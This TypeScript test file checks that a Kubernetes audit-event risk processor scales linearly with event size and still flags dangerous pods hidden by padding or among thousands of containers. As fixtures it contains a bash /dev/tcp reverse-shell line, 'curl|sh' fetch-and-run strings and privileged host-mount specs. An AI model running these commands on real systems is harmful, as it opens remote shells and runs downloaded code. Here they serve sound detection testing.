/**
 * What an event costs grows with its bytes and not faster, whatever its client wrote into it. Each form is
 * measured at 14 KB, 110 KB and 880 KB, in processor time and in the same run: from one to the next linear
 * work gives a ratio of 8, work that compares all with all 64. Two steps, as much of the work has a cap in
 * between, which may hide nothing below it.
 */
import {
  buildAlert,
  contextFactsOf,
  creationContextOf,
  identityOf,
  parseAuditEvent,
  creationQueryOf,
  select,
} from '@arrivals/core';
import { loadRiskLists } from '@arrivals/processor';
import assert from 'node:assert/strict';

const MIDDLE = 110_000;
const FACTOR = 8;
const STEPS = [MIDDLE, MIDDLE * FACTOR] as const;
const TRIES = 3;
/** Tolerance for a garbage collector and a busy machine. */
const RATIO_MAX = 28;
/** Below it a ratio means nothing. */
const NOISE_MS = 60;

type Json = Record<string, unknown>;
type Form = (bytes: number) => Json;

const event = (responseObject: Json, more: Json = {}): Json => ({
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  level: 'RequestResponse',
  auditID: 'a',
  stage: 'ResponseComplete',
  requestURI: '/api/v1/namespaces/shop/pods',
  verb: 'create',
  user: { username: 'mallory', groups: [] },
  sourceIPs: ['10.0.0.9'],
  objectRef: { resource: 'pods', namespace: 'shop', name: 'p', apiVersion: 'v1' },
  responseStatus: { code: 201 },
  responseObject,
  requestReceivedTimestamp: '2026-11-22T14:09:18.000001Z',
  stageTimestamp: '2026-11-22T14:09:18.100000Z',
  annotations: {},
  ...more,
});
const pod = (spec: Json, metadata: Json = {}, more: Json = {}): Json =>
  event(
    {
      kind: 'Pod',
      apiVersion: 'v1',
      metadata: { name: 'p', namespace: 'shop', uid: 'u', ...metadata },
      spec: { containers: [{ name: 'c', image: 'x' }], ...spec },
    },
    more,
  );
const container = (fields: Json): Json => pod({ containers: [{ name: 'c', image: 'x', ...fields }] });
const filled = <T>(bytes: number, make: (i: number) => T): readonly T[] => {
  const list: T[] = [];
  for (let size = 0, i = 0; size < bytes; i++) {
    const entry = make(i);
    size += JSON.stringify(entry).length + 1;
    list.push(entry);
  }
  return list;
};
const mapped = (bytes: number, key: (i: number) => string): Json =>
  Object.fromEntries(filled(bytes, (i) => [key(i), 'x'] as const));
const repeated = (bytes: number, text: string): string => text.repeat(Math.ceil(bytes / text.length));
const mounted = (bytes: number, name: (i: number) => string): Json => {
  const volumes = filled(bytes / 2, (i) => ({ name: name(i), hostPath: { path: `/${String(i)}` } }));
  return pod({
    volumes,
    containers: [
      {
        name: 'c',
        image: 'x',
        volumeMounts: volumes.map((_, i) => ({ name: name(i), mountPath: `/${String(i)}` })),
      },
    ],
  });
};
const argument =
  (text: string): Form =>
  (bytes) =>
    container({ command: ['sh', '-c', repeated(bytes, text)] });
const annotated =
  (text: string): Form =>
  (bytes) =>
    pod({}, { annotations: { note: repeated(bytes, text) } });
const ofRbac = (resource: string, fields: Json): Json =>
  event(
    { apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'r', uid: 'u' }, ...fields },
    { objectRef: { apiGroup: 'rbac.authorization.k8s.io', resource, namespace: 'shop', name: 'r' } },
  );

const FORMS: Readonly<Record<string, Form>> = {
  'volumes and mounts of one name': (bytes) => mounted(bytes, () => 'v'),
  'volumes and mounts of different names': (bytes) => mounted(bytes, (i) => `v${String(i)}`),
  'volumes of sensitive paths': (bytes) =>
    pod({
      volumes: filled(bytes, (i) => ({ name: 'v', hostPath: { path: `/etc/kubernetes/${String(i)}` } })),
    }),
  'volumes without a source': (bytes) => pod({ volumes: filled(bytes, (i) => ({ name: `v${String(i)}` })) }),
  'a volume of many sources': (bytes) => pod({ volumes: [mapped(bytes, (i) => `k${String(i)}`)] }),
  'sources of a projected volume': (bytes) =>
    pod({
      volumes: [
        { name: 'p', projected: { sources: filled(bytes, (i) => ({ secret: { name: `s${String(i)}` } })) } },
      ],
    }),
  'a host path of slashes': (bytes) =>
    pod({ volumes: [{ name: 'v', hostPath: { path: repeated(bytes, '/./') } }] }),
  containers: (bytes) =>
    pod({ containers: filled(bytes, (i) => ({ name: `c${String(i)}`, image: 'registry.example/a' })) }),
  'containers that are none': (bytes) => pod({ containers: filled(bytes, () => 0) }),
  'empty containers': (bytes) => pod({ containers: filled(bytes, () => ({})) }),
  'privileged containers': (bytes) =>
    pod({ containers: filled(bytes, () => ({ image: 'ubuntu', securityContext: { privileged: true } })) }),
  'init containers': (bytes) => pod({ initContainers: filled(bytes, (i) => ({ name: `c${String(i)}` })) }),
  'containers with probes': (bytes) =>
    pod({
      containers: filled(bytes, () => ({
        livenessProbe: { httpGet: { host: 'a' }, exec: { command: ['sh'] } },
      })),
    }),
  'environment variables': (bytes) =>
    container({ env: filled(bytes, (i) => ({ name: `E${String(i)}`, value: 'curl http://x|sh' })) }),
  'one long value': (bytes) => container({ env: [{ name: 'E', value: repeated(bytes, 'a|') }] }),
  arguments: (bytes) => container({ args: filled(bytes, (i) => `a${String(i)}`) }),
  'a line of pipes': argument('curl a|'),
  'a line of substitutions': argument('sh -c $('),
  'a line of braces': argument('${a'),
  'a line of files': argument('curl -o a http://b/c;chmod +x d;'),
  'a line of wrappers': argument('env '),
  'a line of quotes': argument('\\"'),
  capabilities: (bytes) =>
    container({ securityContext: { capabilities: { add: filled(bytes, () => 'SYS_ADMIN') } } }),
  ports: (bytes) => container({ ports: filled(bytes, (i) => ({ hostPort: i })) }),
  tolerations: (bytes) =>
    pod({ tolerations: filled(bytes, (i) => ({ key: `k${String(i)}`, operator: 'Exists' })) }),
  sysctls: (bytes) =>
    pod({
      securityContext: { sysctls: filled(bytes, (i) => ({ name: `kernel.${String(i)}`, value: '1' })) },
    }),
  labels: (bytes) => pod({}, { labels: mapped(bytes, (i) => `l${String(i)}`) }),
  annotations: (bytes) =>
    pod(
      {},
      { annotations: mapped(bytes, (i) => `container.apparmor.security.beta.kubernetes.io/c${String(i)}`) },
    ),
  'owner references': (bytes) =>
    pod(
      {},
      {
        ownerReferences: filled(bytes, (i) => ({
          kind: 'ReplicaSet',
          apiVersion: 'apps/v1',
          name: `o${String(i)}`,
        })),
      },
    ),
  'managed fields': (bytes) =>
    pod({}, { managedFields: filled(bytes, (i) => ({ manager: `m${String(i)}`, fieldsV1: {} })) }),
  'an image of slashes': (bytes) => container({ image: repeated(bytes, 'a/') }),
  'a name of hyphens': (bytes) =>
    pod({}, { name: repeated(bytes, 'a-'), namespace: repeated(bytes, 'kube-') }),
  'a text of secrets’ names': annotated('password'),
  'a text of tokens’ beginnings': annotated('eyJaaaaaaaa.'),
  'a text of flags': annotated('--secret '),
  'a text of URLs': annotated('://a'),
  'a text of keys’ beginnings': annotated('-----BEGIN PRIVATE KEY-----'),
  'a text of control characters': annotated('\u202e'),
  groups: (bytes) =>
    pod({}, {}, { user: { username: 'mallory', groups: filled(bytes, (i) => `g${String(i)}`) } }),
  'parameters of the request': (bytes) =>
    pod({}, {}, { requestURI: `/api/v1/namespaces/shop/pods?${repeated(bytes, 'a=b&')}` }),
  'a reason of bindings': (bytes) =>
    pod(
      {},
      {},
      {
        annotations: {
          'authorization.k8s.io/reason': `RBAC: allowed by ${repeated(bytes, 'RoleBinding "')}`,
        },
      },
    ),
  'rules of a role': (bytes) =>
    ofRbac('roles', {
      kind: 'Role',
      rules: filled(bytes, (i) => ({ resources: [`r${String(i)}`], verbs: ['get'] })),
    }),
  'subjects of a binding': (bytes) =>
    ofRbac('rolebindings', {
      kind: 'RoleBinding',
      roleRef: { kind: 'Role', name: 'x' },
      subjects: filled(bytes, (i) => ({ kind: 'User', name: `u${String(i)}` })),
    }),
  'fields of a template': (bytes) =>
    event(
      {
        kind: 'Deployment',
        apiVersion: 'apps/v1',
        metadata: { name: 'd', uid: 'u' },
        spec: { template: { spec: mapped(bytes, (i) => `k${String(i)}`) } },
      },
      { objectRef: { apiGroup: 'apps', resource: 'deployments', namespace: 'shop', name: 'd' } },
    ),
};

const riskLists = loadRiskLists('');

/** As the processor does it; the alert, where there is one. */
function processed(bytes: Buffer): ReturnType<typeof buildAlert> | undefined {
  const read = parseAuditEvent(bytes);
  contextFactsOf('c', read);
  const selection = select(read);
  if (!('created' in selection)) return undefined;
  const { created } = selection;
  const query = creationQueryOf(created, read);
  return buildAlert({
    cluster: 'c',
    identity: identityOf('c', read),
    created,
    event: read,
    position: { topic: 't', partition: 0, offset: 0, index: 0 },
    receivedAtMicros: 1e15,
    alertedAtMicros: 1e15,
    flags: [],
    riskLists,
    context: query === undefined ? null : creationContextOf(query, new Map()),
    revision: 1,
    revised: [],
  });
}

/** Of the processor, which others on the machine do not slow down as they do the clock. */
function costMs(bytes: Buffer): number {
  const before = process.cpuUsage();
  processed(bytes);
  const { user, system } = process.cpuUsage(before);
  return (user + system) / 1000;
}

/** The best of several, but for what needs no more. */
function bestMs(bytes: Buffer, enoughMs: number): number {
  let best = Number.POSITIVE_INFINITY;
  for (let tries = 0; tries < TRIES && best > enoughMs; tries++) best = Math.min(best, costMs(bytes));
  return best;
}

describe('the cost of an event', function () {
  this.timeout(60_000);

  before(() => {
    for (let i = 0; i < 5; i++)
      processed(
        Buffer.from(JSON.stringify(pod({}, { annotations: { a: repeated(MIDDLE, 'lorem ipsum ') } }))),
      );
  });

  for (const [name, form] of Object.entries(FORMS)) {
    it(`grows no faster than its bytes with ${name}`, () => {
      for (const bytes of STEPS) {
        const large = Buffer.from(JSON.stringify(form(bytes)));
        const firstMs = costMs(large);
        if (firstMs <= NOISE_MS) continue;
        const smallMs = bestMs(Buffer.from(JSON.stringify(form(bytes / FACTOR))), 0);
        const largeMs = Math.min(
          firstMs,
          firstMs <= RATIO_MAX * smallMs ? firstMs : bestMs(large, RATIO_MAX * smallMs),
        );
        assert.ok(
          largeMs / smallMs <= RATIO_MAX,
          `${String(bytes)} bytes: ${largeMs.toFixed(0)} ms, and an eighth of them ${smallMs.toFixed(1)} ms`,
        );
      }
    });
  }

  it('is not that of the whole where there is more than is assessed, and what was left out is named', () => {
    const many = [
      [pod({ containers: filled(300_000, () => ({})) }), 'containers 500 were looked at'],
      [
        pod({ volumes: filled(600_000, () => ({ hostPath: { path: '/x' } })) }),
        'volumes 2000 were looked at',
      ],
      [container({ args: [repeated(200_000, 'a ')] }), 'commands and values'],
    ] as const;
    for (const [made, words] of many) {
      const alert = processed(Buffer.from(JSON.stringify(made)));
      const left = alert?.risk.notAssessed.filter(
        ({ reason, detail }) => reason === 'truncated' && detail.includes(words),
      );
      assert.ok((left?.length ?? 0) > 0, words);
    }
  });

  for (const index of [0, 1, 499, 5000, 9999]) {
    it(`does not hide what container ${String(index)} of 10,000 has`, () => {
      const rights: readonly Json[] = [
        { securityContext: { privileged: true } },
        { securityContext: { capabilities: { add: ['SYS_ADMIN'] } } },
        { volumeMounts: [{ name: 'host', mountPath: '/h' }] },
      ];
      for (const right of rights) {
        const spec = (containers: readonly Json[]): Json => ({
          volumes: [{ name: 'host', hostPath: { path: '/etc' } }],
          containers,
        });
        const mighty: Json = { name: 'm', image: 'x', ...right };
        const alone = processed(Buffer.from(JSON.stringify(pod(spec([mighty])))));
        const others = Array.from({ length: 9999 }, (_, i): Json => ({ name: `c${String(i)}`, image: 'x' }));
        const among = processed(Buffer.from(JSON.stringify(pod(spec(others.toSpliced(index, 0, mighty))))));
        const idsOf = (alert: typeof alone): readonly string[] =>
          alert?.risk.signals.map(({ id }) => id) ?? [];
        assert.deepEqual(
          idsOf(alone).filter((id) => !idsOf(among).includes(id)),
          [],
        );
        assert.ok((among?.score ?? 0) >= (alone?.score ?? 100));
        assert.equal(among?.podSecurity?.level, alone?.podSecurity?.level);
      }
    });
  }

  it('is a signal where containers or host paths are left out: what the others do is unknown', () => {
    for (const made of [
      pod({
        initContainers: filled(30_000, (i) => ({ name: `c${String(i)}`, image: 'x', command: ['true'] })),
      }),
      pod({ volumes: filled(200_000, () => ({ hostPath: { path: '/x' } })) }),
    ]) {
      const alert = processed(Buffer.from(JSON.stringify(made)));
      assert.match(alert?.risk.signals.find(({ id }) => id === 'unseen-spec')?.text ?? '', /were looked at/);
    }
  });

  it('does not hide a command by padding in another one, before it or after it', () => {
    const shell = 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1';
    const padding = repeated(400_000, 'echo ok;');
    const hidden = [
      pod({ containers: [{ args: [padding] }, { command: ['sh', '-c', shell] }] }),
      container({ command: ['sh', '-c', `${shell};${padding}`] }),
      container({ command: ['sh', '-c', `${padding}${shell}`] }),
      container({ env: filled(300_000, () => ({ name: 'E', value: 'x' })), command: ['sh', '-c', shell] }),
    ];
    for (const made of hidden) {
      const alert = processed(Buffer.from(JSON.stringify(made)));
      assert.ok(alert?.risk.signals.some(({ id }) => id === 'reverse-shell'));
    }
  });

  it('lets a pod template be as deep as a client likes', () => {
    const deep: unknown = JSON.parse(`${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`);
    const made = event(
      {
        kind: 'Deployment',
        apiVersion: 'apps/v1',
        metadata: { name: 'd', uid: 'u' },
        spec: { template: { spec: deep } },
      },
      { objectRef: { apiGroup: 'apps', resource: 'deployments', namespace: 'shop', name: 'd' } },
    );
    const bytes = Buffer.from(JSON.stringify(made));
    assert.ok(contextFactsOf('c', parseAuditEvent(bytes)).length > 0);
  });
});
